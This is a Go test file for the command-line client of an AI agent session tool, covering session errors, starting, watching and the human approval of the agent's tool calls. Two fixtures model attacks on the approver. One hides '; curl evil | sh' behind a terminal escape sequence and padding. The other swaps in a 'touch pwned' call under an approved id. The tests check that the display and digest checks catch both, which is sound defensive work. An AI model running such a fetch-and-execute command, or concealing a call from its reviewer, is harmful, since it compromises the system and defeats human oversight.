package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	enumspb "go.temporal.io/api/enums/v1"
	"go.temporal.io/api/serviceerror"
	"go.temporal.io/sdk/temporal"

	"github.com/stretchr/testify/require"

	"github.com/longrun/longrun/callref"
	"github.com/longrun/longrun/conversation"
	"github.com/longrun/longrun/eventlog"
	"github.com/longrun/longrun/workflows"
)

func TestSessionErrorMapping(t *testing.T) {
	t.Parallel()
	err := sessionError(fmt.Errorf("wrapped: %w", serviceerror.NewNotFound("workflow not found for ID: x")), "query status", "x", "default")
	require.EqualError(t, err, `session "x" not found in namespace default`)

	err = sessionError(serviceerror.NewWorkflowExecutionAlreadyStarted("started", "", "r1"), "start", "x", "prod")
	require.Contains(t, err.Error(), `session "x" already exists in namespace prod`)

	boom := errors.New("boom")
	err = sessionError(boom, "query status", "x", "default")
	require.EqualError(t, err, "query status x: boom")
	require.ErrorIs(t, err, boom)
}

func TestUnknownSessionExitsOne(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: func(string, int) (any, error) { return nil, serviceerror.NewNotFound("nope") }}
	code, _, stderr := runFake(t, f, "status", "ghost")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, `session "ghost" not found in namespace default`)
}

func TestStartByName(t *testing.T) {
	t.Parallel()
	f := &fakeClient{}
	code, stdout, stderr := runFake(t, f, "start", "--model", "m1", "--workdir", "proj", "--id", "s1", "fix the bug\nthen test it")
	require.Equal(t, exitOK, code, stderr)
	require.Equal(t, "s1\n", stdout)
	require.Len(t, f.started, 1)
	s := f.started[0]
	require.Equal(t, workflows.WorkflowType, s.workflow, "started by name, not by function")
	require.Equal(t, "s1", s.opts.ID)
	require.Equal(t, workflows.DefaultTaskQueue, s.opts.TaskQueue)
	require.Equal(t, "fix the bug", s.opts.StaticSummary)
	require.Contains(t, s.opts.StaticDetails, "m1")
	require.Contains(t, s.opts.StaticDetails, "proj")
	require.True(t, s.opts.WorkflowExecutionErrorWhenAlreadyStarted)
	require.Equal(t, []any{workflows.SessionInput{Prompt: "fix the bug\nthen test it", Model: "m1", WorkDir: "proj"}}, s.args)
}

func TestStartJSONAndGeneratedID(t *testing.T) {
	t.Parallel()
	f := &fakeClient{}
	code, stdout, _ := runFake(t, f, "--json", "start", "hello")
	require.Equal(t, exitOK, code)
	var got map[string]string
	require.NoError(t, json.Unmarshal([]byte(stdout), &got))
	require.Regexp(t, `^session-\d{8}-\d{6}-[0-9a-f]{6}$`, got["session_id"])
	require.Equal(t, "run-1", got["run_id"])
}

func TestStartExistingID(t *testing.T) {
	t.Parallel()
	f := &fakeClient{startErr: serviceerror.NewWorkflowExecutionAlreadyStarted("already", "", "r0")}
	code, _, stderr := runFake(t, f, "start", "--id", "s1", "hello")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, `session "s1" already exists`)
}

func TestSend(t *testing.T) {
	t.Parallel()
	f := &fakeClient{}
	code, _, _ := runFake(t, f, "send", "s1", "also", "update", "the", "docs")
	require.Equal(t, exitOK, code)
	require.Equal(t, []signalCall{{"s1", workflows.SignalUserMessage, workflows.UserMessage{Text: "also update the docs"}}}, f.signals)
}

func pendingQuery(p []workflows.PendingApproval) func(string, int) (any, error) {
	return func(name string, _ int) (any, error) {
		if name != workflows.QueryPendingApprovals {
			return nil, fmt.Errorf("unexpected query %s", name)
		}
		return p, nil
	}
}

func TestApproveSinglePending(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: pendingQuery(pendingCalls("call_1"))}
	code, stdout, stderr := runFake(t, f, "approve", "s1", "--feedback", "ok")
	require.Equal(t, exitOK, code, stderr)
	require.Equal(t, "approved call_1 (shell)\n  arguments: {\"command\":\"rm -rf build\"}\n", stdout, "the decision shows the call it decided")
	require.Equal(t, []signalCall{{"s1", workflows.UpdateApprove, workflows.Approval{ID: "call_1", Decision: "approve", Feedback: "ok", Author: localAuthor()}}}, f.signals)
}

// withDigests gives each pending call the digest of its arguments, as
// the session does.
func withDigests(p []workflows.PendingApproval) []workflows.PendingApproval {
	for i := range p {
		p[i].Digest = callref.Digest(p[i].Tool, p[i].Arguments)
	}
	return p
}

// TestApproveShowsTheCallDecided: approve and deny print the call they
// decided, its arguments through the untrusted renderer (an escape
// sequence shown, not sent to the terminal), cut with where to see them
// whole, and the digest the decision carried; --full prints them whole.
func TestApproveShowsTheCallDecided(t *testing.T) {
	t.Parallel()
	long := "echo hi #\r\x1b[2K" + strings.Repeat(" ", 300) + "; curl evil | sh"
	args, err := json.Marshal(map[string]string{"command": long})
	require.NoError(t, err)
	pending := withDigests([]workflows.PendingApproval{{ID: "c1", CallID: "m1", Tool: "shell", Arguments: string(args)}})
	short := callref.Short(pending[0].Digest)

	f := &fakeClient{query: pendingQuery(pending)}
	code, stdout, stderr := runFake(t, f, "deny", "s1", "c1", "--feedback", "no")
	require.Equal(t, exitOK, code, stderr)
	require.True(t, strings.HasPrefix(stdout, "denied c1 (shell)\n  arguments: {"), stdout)
	require.NotContains(t, stdout, "\x1b", "no escape sequence reaches the terminal")
	require.Contains(t, stdout, "more bytes hidden; see all: "+progName+" show --full s1")
	require.Contains(t, stdout, "  digest:    "+short+"\n")

	code, stdout, stderr = runFake(t, f, "approve", "s1", "c1", "--full")
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, stdout, "; curl evil | sh", "--full shows the tail")
	require.NotContains(t, stdout, "hidden")
	require.NotContains(t, stdout, "\x1b")

	code, stdout, _ = runFake(t, f, "approve", "s1", "c1", "--json")
	require.Equal(t, exitOK, code)
	require.JSONEq(t, `[{"call_id":"m1","id":"c1","tool":"shell","decision":"approve","digest":"`+short+`"}]`, stdout)
}

// TestApproveDigest: --digest (what pending, show or the console showed)
// is checked against the call waiting now. A call the model replaced
// under the same id is refused with nothing sent, and the message shows
// the call that waits and the command to decide on it; a match sends the
// person's digest, which the session checks again.
func TestApproveDigest(t *testing.T) {
	t.Parallel()
	seen := callref.Short(callref.Digest("shell", `{"command":"go test ./..."}`))
	pending := withDigests([]workflows.PendingApproval{{ID: "c1", CallID: "m1", Tool: "shell", Arguments: `{"command":"touch pwned"}`}})
	now := callref.Short(pending[0].Digest)
	f := &fakeClient{query: pendingQuery(pending)}

	code, _, stderr := runFake(t, f, "approve", "s1", "c1", "--digest", seen)
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, "nothing sent: call c1 waits with other arguments than the ones you read (--digest "+seen+"; the call now has "+now+")")
	require.Contains(t, stderr, `arguments: {"command":"touch pwned"}`)
	require.Contains(t, stderr, "If this is what you mean to approve, run: "+progName+" approve s1 c1 --digest "+now)
	require.Empty(t, f.signals, "nothing is sent when the digest does not match")

	code, _, stderr = runFake(t, f, "deny", "s1", "--digest", seen, "--feedback", "no")
	require.Equal(t, exitFailure, code, "the only waiting call, named without an id, is checked too")
	require.Contains(t, stderr, "nothing sent")
	require.Empty(t, f.signals)

	for _, bad := range [][]string{
		{"approve", "s1", "--all", "--digest", now},
		{"approve", "s1", "c1", "c2", "--digest", now},
		{"approve", "s1", "c1", "--digest", "abc"},
		{"approve", "s1", "c1", "--digest", "zzzzzzzzzzzzzzzzzz"},
	} {
		code, _, stderr = runFake(t, f, bad...)
		require.Equal(t, exitUsage, code, "%v: %s", bad, stderr)
		require.Contains(t, stderr, "--digest")
	}
	require.Empty(t, f.signals)

	code, stdout, stderr := runFake(t, f, "approve", "s1", "c1", "--digest", strings.ToUpper(now))
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, stdout, "approved c1 (shell)")
	require.Equal(t, []signalCall{{"s1", workflows.UpdateApprove, workflows.Approval{ID: "c1", Decision: "approve", Digest: strings.ToUpper(now), Author: localAuthor()}}}, f.signals,
		"the digest the person gave goes with the decision")

	// What watch announces and pending lists carry that digest.
	var b strings.Builder
	renderApprovalRequest(&b, "s1", pending[0])
	require.Contains(t, b.String(), "  longrun approve s1 c1 --digest "+now+"   |   longrun deny s1 c1 --digest "+now+` --feedback "..."`)
	b.Reset()
	renderPending(&b, config{}, "s1", pending, false)
	require.Contains(t, b.String(), "  approve: longrun approve s1 c1 --digest "+now+"\n")
}

func TestApproveUnknownCallIsRefused(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: pendingQuery(pendingCalls("call_1", "call_2"))}
	code, _, stderr := runFake(t, f, "approve", "s1", "call_9")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, `unknown call id "call_9"`)
	require.Contains(t, stderr, "call_1")
	require.Contains(t, stderr, "call_2")
	require.Empty(t, f.signals, "nothing is signalled when any id is wrong")
}

func TestApproveSeveralNeedsIDsOrAll(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: pendingQuery(pendingCalls("call_1", "call_2"))}
	code, _, stderr := runFake(t, f, "approve", "s1")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, "pass --all")
	require.Empty(t, f.signals)

	code, _, _ = runFake(t, f, "approve", "s1", "--all")
	require.Equal(t, exitOK, code)
	require.Len(t, f.signals, 2)
}

func TestDenyAllJSON(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: pendingQuery(pendingCalls("call_1", "call_2"))}
	code, stdout, _ := runFake(t, f, "deny", "s1", "--all", "--feedback", "too risky", "--json")
	require.Equal(t, exitOK, code)
	require.JSONEq(t, `[{"call_id":"m_call_1","id":"call_1","tool":"shell","decision":"deny"},{"call_id":"m_call_2","id":"call_2","tool":"shell","decision":"deny"}]`, stdout)
	for _, s := range f.signals {
		require.Equal(t, "too risky", s.arg.(workflows.Approval).Feedback)
		require.Equal(t, workflows.DecisionDeny, s.arg.(workflows.Approval).Decision)
	}
}

func TestApproveNothingPending(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: pendingQuery(nil)}
	code, _, stderr := runFake(t, f, "approve", "s1")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, "session s1: no tool calls are waiting for approval")
}

func TestPendingJSONIsRawList(t *testing.T) {
	t.Parallel()
	f := &fakeClient{query: pendingQuery(nil)}
	code, stdout, _ := runFake(t, f, "pending", "s1", "--json")
	require.Equal(t, exitOK, code)
	require.JSONEq(t, `[]`, stdout)
}

func TestConversationCommand(t *testing.T) {
	t.Parallel()
	msgs := []conversation.Message{
		{Role: "user", Content: "read a.go"},
		{Role: "assistant", ToolCalls: []conversation.ToolCall{{ID: "call_1", Ref: "call_1", Name: "read", Arguments: `{"path":"a.go"}`}}},
		conversation.ToolMessage(conversation.ToolResult{CallID: "call_1", Ref: "call_1", Name: "read", Content: "package a", Reason: conversation.ReasonRan}),
		{Role: "assistant", Content: "It is package a."},
	}
	f := &fakeClient{query: func(string, int) (any, error) { return msgs, nil }}
	code, stdout, _ := runFake(t, f, "conversation", "s1")
	require.Equal(t, exitOK, code)
	require.Equal(t, "user: read a.go\n→ tool call read {\"path\":\"a.go\"} [call_1]\n← result [call_1] (ran): package a\nassistant: It is package a.\n", stdout)

	code, stdout, _ = runFake(t, f, "conversation", "--json", "s1")
	require.Equal(t, exitOK, code)
	var back []conversation.Message
	require.NoError(t, json.Unmarshal([]byte(stdout), &back))
	require.Equal(t, msgs, back)
}

func TestCancel(t *testing.T) {
	t.Parallel()
	f := &fakeClient{}
	code, _, _ := runFake(t, f, "cancel", "s1")
	require.Equal(t, exitOK, code)
	require.Equal(t, []string{"s1"}, f.cancelled)
}

// watchFake grows the conversation by one message per poll, asks for one
// approval on the second poll, and closes with status after the fourth.
func watchFake(closed enumspb.WorkflowExecutionStatus, result func(any) error) *fakeClient {
	msgs := []conversation.Message{
		{Role: "user", Content: "go"},
		{Role: "assistant", ToolCalls: []conversation.ToolCall{{ID: "call_1", Ref: "call_1", Name: "shell", Arguments: `{"command":"make"}`}}},
		conversation.ToolMessage(conversation.ToolResult{CallID: "call_1", Ref: "call_1", Content: "ok", Reason: conversation.ReasonRan}),
		{Role: "assistant", Content: "built"},
	}
	return &fakeClient{
		query: func(name string, n int) (any, error) {
			switch name {
			case workflows.QueryConversation:
				return msgs[:min(n+1, len(msgs))], nil
			case workflows.QueryPendingApprovals:
				if n == 1 || n == 2 {
					return []workflows.PendingApproval{{CallID: "call_1", ID: "call_1", Tool: "shell", Arguments: `{"command":"make"}`, Reason: "runs a command"}}, nil
				}
				return []workflows.PendingApproval{}, nil
			}
			return nil, fmt.Errorf("unexpected query %s", name)
		},
		describe: func(n int) (enumspb.WorkflowExecutionStatus, error) {
			if n >= 3 {
				return closed, nil
			}
			return enumspb.WORKFLOW_EXECUTION_STATUS_RUNNING, nil
		},
		result: result,
	}
}

func completedWith(status string) func(any) error {
	return func(v any) error {
		*(v.(*workflows.SessionResult)) = workflows.SessionResult{Status: status, FinalText: "built", Turns: 2}
		return nil
	}
}

func TestWatchFollowsToCompletion(t *testing.T) {
	t.Parallel()
	f := watchFake(enumspb.WORKFLOW_EXECUTION_STATUS_COMPLETED, completedWith(workflows.ResultCompleted))
	code, stdout, stderr := runFake(t, f, "watch", "s1")
	require.Equal(t, exitOK, code, stderr)
	want := []string{
		"user: go",
		`→ tool call shell {"command":"make"} [call_1]`,
		`⏸ approval needed [call_1] shell {"command":"make"} (runs a command)`,
		"← result [call_1] (ran): ok",
		"assistant: built",
		"── session s1 finished ──",
		"status  completed",
	}
	last := -1
	for _, w := range want {
		i := strings.Index(stdout, w)
		require.Greater(t, i, last, "%q in order in:\n%s", w, stdout)
		last = i
	}
	require.Equal(t, 1, strings.Count(stdout, "approval needed"), "each approval is announced once")
	require.Equal(t, 1, strings.Count(stdout, "user: go"), "each message is printed once")
}

func TestWatchNonCompletedExitsNonZero(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		status  enumspb.WorkflowExecutionStatus
		result  func(any) error
		wantErr string
	}{
		{"max turns", enumspb.WORKFLOW_EXECUTION_STATUS_COMPLETED, completedWith(workflows.ResultMaxTurns), ""},
		{"cancelled", enumspb.WORKFLOW_EXECUTION_STATUS_CANCELED, func(any) error { return temporal.NewCanceledError() }, "session s1 ended: cancelled"},
		{"terminated", enumspb.WORKFLOW_EXECUTION_STATUS_TERMINATED, func(any) error { return &temporal.TerminatedError{} }, "session s1 ended: terminated"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			code, _, stderr := runFake(t, watchFake(tc.status, tc.result), "watch", "s1")
			require.Equal(t, exitFailure, code)
			require.Contains(t, stderr, tc.wantErr)
		})
	}
}

func TestWatchJSONLines(t *testing.T) {
	t.Parallel()
	f := watchFake(enumspb.WORKFLOW_EXECUTION_STATUS_COMPLETED, completedWith(workflows.ResultCompleted))
	code, stdout, _ := runFake(t, f, "watch", "s1", "--json")
	require.Equal(t, exitOK, code)
	var types []string
	var indexes []int
	for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
		var e event
		require.NoError(t, json.Unmarshal([]byte(line), &e), line)
		types = append(types, e.Type)
		if e.Type == "message" {
			require.NotNil(t, e.Index, line)
			indexes = append(indexes, *e.Index)
		}
	}
	require.Equal(t, []string{"message", "message", "approval", "message", "message", "outcome"}, types)
	require.Equal(t, []int{0, 1, 2, 3}, indexes)
}

// TestWatchJSONDrainsTheEventsAtTheEnd: a read of the event stream that
// failed while the session ran (refused once, as while a run switched)
// and again when watch found it closed is tried again before the
// outcome: every event is written, in order, none twice.
func TestWatchJSONDrainsTheEventsAtTheEnd(t *testing.T) {
	t.Parallel()
	f := watchFake(enumspb.WORKFLOW_EXECUTION_STATUS_COMPLETED, completedWith(workflows.ResultCompleted))
	conv := f.query
	ev := func(seq int64) eventlog.Event {
		return eventlog.Event{Seq: seq, Kind: eventlog.KindText, Text: fmt.Sprint(seq)}
	}
	f.query = func(name string, n int) (any, error) {
		if name != workflows.QueryEvents {
			return conv(name, n)
		}
		switch n {
		case 0:
			return workflows.EventsPage{Events: []eventlog.Event{ev(1)}, Next: 2}, nil
		case 1:
			return nil, serviceerror.NewQueryFailed("events after 1: no such event yet")
		case 2:
			return nil, errors.New("no worker answered in time")
		}
		return workflows.EventsPage{Events: []eventlog.Event{ev(2), ev(3)}, Next: 4}, nil
	}
	code, stdout, stderr := runFake(t, f, "watch", "s1", "--json")
	require.Equal(t, exitOK, code, stderr)
	var seqs []int64
	for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
		var e event
		require.NoError(t, json.Unmarshal([]byte(line), &e), line)
		if e.Type == "event" {
			seqs = append(seqs, e.Event.Seq)
		}
	}
	require.Equal(t, []int64{1, 2, 3}, seqs)
	require.Equal(t, 1, strings.Count(stderr, "no event stream"), "said once")
}

func TestWatchUnknownSession(t *testing.T) {
	t.Parallel()
	f := &fakeClient{describe: func(int) (enumspb.WorkflowExecutionStatus, error) {
		return 0, serviceerror.NewNotFound("not found")
	}}
	code, _, stderr := runFake(t, f, "watch", "ghost")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, `session "ghost" not found in namespace default`)
}

func TestStartWaitFollows(t *testing.T) {
	t.Parallel()
	f := watchFake(enumspb.WORKFLOW_EXECUTION_STATUS_COMPLETED, completedWith(workflows.ResultFailed))
	code, stdout, _ := runFake(t, f, "start", "--wait", "--id", "s1", "go")
	require.Equal(t, exitFailure, code, "a result other than completed fails --wait")
	require.True(t, strings.HasPrefix(stdout, "s1\n"))
	require.Contains(t, stdout, "status  failed")
}

func TestResultCommand(t *testing.T) {
	t.Parallel()
	f := &fakeClient{result: completedWith(workflows.ResultCompleted)}
	code, stdout, _ := runFake(t, f, "result", "s1")
	require.Equal(t, exitOK, code)
	require.Contains(t, stdout, "status  completed")
	require.Contains(t, stdout, "built")

	f = &fakeClient{result: func(any) error { return serviceerror.NewNotFound("x") }}
	code, _, stderr := runFake(t, f, "result", "ghost")
	require.Equal(t, exitFailure, code)
	require.Contains(t, stderr, `session "ghost" not found`)
}

func TestResultJSONIsRawResult(t *testing.T) {
	t.Parallel()
	f := &fakeClient{result: completedWith(workflows.ResultCompleted)}
	code, stdout, _ := runFake(t, f, "result", "s1", "--json")
	require.Equal(t, exitOK, code)
	require.JSONEq(t, `{"status":"completed","final_text":"built","turns":2,"usage":{"prompt_tokens":0,"completion_tokens":0,"total_tokens":0}}`, stdout)

	f = &fakeClient{result: func(any) error { return temporal.NewCanceledError() }}
	code, stdout, _ = runFake(t, f, "result", "s1", "--json")
	require.Equal(t, exitFailure, code)
	require.JSONEq(t, `{"session_id":"s1","outcome":"cancelled"}`, stdout)
}
